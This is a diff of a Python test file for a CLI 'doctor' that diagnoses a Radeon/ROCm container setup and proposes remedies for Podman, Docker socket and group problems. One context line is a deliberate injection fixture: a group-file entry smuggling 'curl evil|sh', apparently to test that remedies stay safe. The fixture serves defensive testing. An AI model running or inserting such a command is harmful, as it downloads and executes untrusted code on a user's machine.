@@ -266,8 +266,8 @@ def with_environment(**environment: str) -> Stage:
         (with_environment(PYTORCH_HIP_ALLOC_CONF="expandable_segments:False"), "RS113", State.OK, "no allocator"),
         (replace(STAGES["r9700"], overlay={**ROOTLESS, "nodes": MIXED}), "RS204", State.FAIL, "/dev/dri/renderD128"),
         (replace(STAGES["three-r9700"], cmdline="amd_iommu=off"), "RS117", State.OK, "with amd_iommu=off"),
-        (replace(STAGES["r9700"], overlay=PODMAN), "RS203", State.WARN, "no BuildKit"),
-        (replace(STAGES["r9700"], overlay=PODMAN), "RS401", State.WARN, "builds none"),
+        (replace(STAGES["r9700"], overlay=PODMAN), "RS203", State.OK, "builds rendered folders"),
+        (replace(STAGES["r9700"], overlay=PODMAN), "RS401", State.WARN, "no train image for gfx1201"),
     ],
 )
 def test_a_real_machine_is_judged_as_it_is(tmp_path: Path, stage: Stage, code: str, state: State, says: str) -> None:
@@ -289,11 +289,12 @@ SOCKET_REMEDY = "export DOCKER_HOST=unix:///run/user/$(id -u)/podman/podman.sock
         ({"/etc/group": "root:x:0:\n"}, None, "RS109", ["sudo groupadd --gid 992 radeon992"]),
         ({"/etc/group": "x;curl evil|sh;:x:992:\n"}, None, "RS109", ["sudo groupadd --gid 992 radeon992"]),
         ({"/etc/group": "docker:x:9:me\n"}, {"why_not": "at x (permission denied)"}, "RS201", ["newgrp docker"]),
+        ({}, PODMAN["engine"], "RS401", ["podman build --tag radeon-stack/train:rocm7.1.1-gfx1201 ./context"]),
         ({}, {"why_not": "permission denied", "address": "unix:///run/podman/podman.sock"}, "RS201", [SOCKET_REMEDY]),
     ],
 )
 def test_a_remedy_is_one_that_works_there(
-    cli: Cli, tmp_path: Path, files: dict[str, str], overlay: dict[str, str] | None, code: str, remedy: list[str]
+    cli: Cli, tmp_path: Path, files: dict[str, str], overlay: dict[str, object] | None, code: str, remedy: list[str]
 ) -> None:
     stage = replace(STAGES["no-permission"], files=files, overlay={"engine": overlay or {"why_not": ABSENT}})
     told = cli("doctor", "--json", "--sysroot", build(stage, tmp_path))
